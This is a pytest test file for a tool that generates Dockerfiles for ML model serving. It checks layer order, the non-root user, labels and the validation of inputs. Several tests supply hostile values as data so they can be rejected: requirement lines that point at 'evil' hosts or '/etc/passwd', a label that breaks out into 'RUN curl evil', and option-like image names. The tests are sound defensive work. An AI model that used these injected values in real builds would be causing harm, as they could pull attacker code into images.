"""`gitml models generate-dockerfile`: layers in the right order, non-root, health check, labels."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

from gitml.deploy.dockerfile import ImageOptions, dockerfile_text, image_reference, write_context
from gitml.deploy.target import DeployTarget, resolve_target
from gitml.exceptions import InvalidParameterValue
from gitml.registry.access import open_registry
from tests.conftest import run_cli


def _target() -> DeployTarget:
    return DeployTarget(
        name="team/fraud", version=3, semver="v1.2.0", model_uri="models:/team/fraud/3",
        source="runs:/" + "a" * 32 + "/model", run_id="a" * 32, git_commit="b" * 40,
        git_tag="team/fraud@v1.2.0", requested="models:/team/fraud/Production",
    )


def test_layers_labels_user_and_healthcheck() -> None:
    text = dockerfile_text(_target(), ImageOptions())
    lines = text.splitlines()
    deps = next(i for i, line in enumerate(lines) if line.startswith("RUN python -m pip install"))
    model = next(i for i, line in enumerate(lines) if line.startswith("COPY --chown=10001:10001 model/"))
    assert deps < model, "dependencies must be installed before the model is copied"
    assert "USER 10001:10001" in lines
    assert any(line.startswith("HEALTHCHECK") for line in lines) and "/ping" in text
    assert '"org.opencontainers.image.revision"' not in text  # keys are plain
    assert 'org.opencontainers.image.revision="' + "b" * 40 + '"' in text
    assert 'dev.gitml.run-id="' + "a" * 32 + '"' in text
    assert 'dev.gitml.registry-tag="team/fraud@v1.2.0"' in text
    assert 'dev.gitml.model-uri="models:/team/fraud/3"' in text
    assert lines[-1] == 'CMD ["models", "serve", "-m", "/opt/gitml/model", "--host", "0.0.0.0", "--port", "8080"]'
    assert "ARG BASE_IMAGE=python:3.11-slim" in lines


def test_offline_sources() -> None:
    text = dockerfile_text(_target(), ImageOptions(wheelhouse=Path("w")))
    assert "--no-index --find-links /opt/gitml/wheels" in text and "COPY wheels/" in text
    text = dockerfile_text(_target(), ImageOptions(index_url="http://127.0.0.1:8081/simple"))
    assert "--index-url http://127.0.0.1:8081/simple" in text
    with pytest.raises(InvalidParameterValue):
        dockerfile_text(_target(), ImageOptions(index_url="http://x/simple --trusted-host evil"))


@pytest.mark.parametrize("name", ["fraud:1.0", "registry.local:5000/team/fraud:v1", "fraud"])
def test_image_names(name: str) -> None:
    assert image_reference(name) == name


@pytest.mark.parametrize("name", ["--privileged", "Fraud:1", "a b", "x:" + "t" * 200, ""])
def test_bad_image_names(name: str) -> None:
    with pytest.raises(InvalidParameterValue):
        image_reference(name)


def test_hostile_requirements_are_refused(tmp_path: Path) -> None:
    model = tmp_path / "model"
    model.mkdir()
    (model / "MLmodel").write_text("flavors: {}\n")
    for bad in ("--index-url http://evil/simple", "-e git+https://evil/x", "evil @ https://evil/x.whl", "-r /etc/passwd"):
        (model / "requirements.txt").write_text(f"numpy\n{bad}\n")
        with pytest.raises(InvalidParameterValue, match="not a plain requirement"):
            write_context(_target(), model, tmp_path / "ctx", ImageOptions())
    (model / "requirements.txt").write_text("# pinned\nnumpy>=1.24\nscikit-learn==1.5.2; python_version>='3.10'\n")
    write_context(_target(), model, tmp_path / "ctx", ImageOptions())
    assert (tmp_path / "ctx" / "requirements.txt").read_text() == "numpy>=1.24\nscikit-learn==1.5.2; python_version>='3.10'\n"


def test_label_values_cannot_break_out() -> None:
    t = _target()._replace(semver='v1"\nRUN curl evil')
    with pytest.raises(InvalidParameterValue):
        dockerfile_text(t, ImageOptions())
    t = _target()._replace(semver='v1" evil="x')
    text = dockerfile_text(t, ImageOptions())
    assert 'org.opencontainers.image.version=' + json.dumps('v1" evil="x') in text


def test_cli_generates_context_from_a_stage(promoted: tuple[Path, list[str]], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo, runs = promoted
    out = tmp_path / "ctx"
    code, stdout, err = run_cli(capsys, "models", "generate-dockerfile", "-m", "models:/team/fraud/Production", "-d", str(out))
    assert code == 0, err
    text = (out / "Dockerfile").read_text()
    assert f'dev.gitml.run-id="{runs[0]}"' in text and 'dev.gitml.model-version="1"' in text
    assert (out / "model" / "MLmodel").is_file() and (out / "model" / "weights.bin").read_bytes() == b"\x00\x01"
    target = resolve_target("models:/team/fraud/Production", open_registry(str(repo)))
    assert re.search(r"org\.opencontainers\.image\.revision=\"[0-9a-f]{40}\"", text)
    assert target.git_commit in text


def test_cli_build_without_an_engine_still_writes_the_dockerfile(
    promoted: tuple[Path, list[str]], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    bin_dir = tmp_path / "bin-without-docker"
    bin_dir.mkdir()
    (bin_dir / "git").symlink_to(shutil.which("git"))
    with monkeypatch.context() as m:
        m.setenv("PATH", str(bin_dir))
        out = tmp_path / "ctx"
        code, _, err = run_cli(capsys, "models", "build-docker", "-m", "models:/team/fraud/Production", "-n", "fraud:1", "-d", str(out))
    assert code == 1 and "docker is not installed" in err and str(out) in err and err.count("\n") == 1
    assert (out / "Dockerfile").is_file()
    if shutil.which("docker"):
        # a client with no engine behind it
        monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-engine.sock")
        code, _, err = run_cli(capsys, "models", "build-docker", "-m", "models:/team/fraud/Production", "-n", "fraud:1", "-d", str(out))
        assert code == 1 and "no Docker engine" in err and err.count("\n") == 1
    code, _, err = run_cli(capsys, "models", "build-docker", "-m", "models:/team/fraud/Production", "-n", "--rm")
    assert code != 0


def test_extras_follow_the_flavors_and_a_hostile_mlmodel_gets_none(tmp_path: Path) -> None:
    from gitml.deploy.dockerfile import model_extras

    (tmp_path / "MLmodel").write_text("flavors:\n  sklearn: {}\n  python_function: {}\ndescription: a & b\n")
    assert model_extras(tmp_path) == ["serve", "sklearn"]
    (tmp_path / "MLmodel").write_text("a: &x [1]\nb: *x\nflavors: {pytorch: {}}\n")  # aliases: not read
    assert model_extras(tmp_path) == ["serve"]
    text = dockerfile_text(_target(), ImageOptions(), model_extras(tmp_path))
    assert '"gitml[serve]"' in text
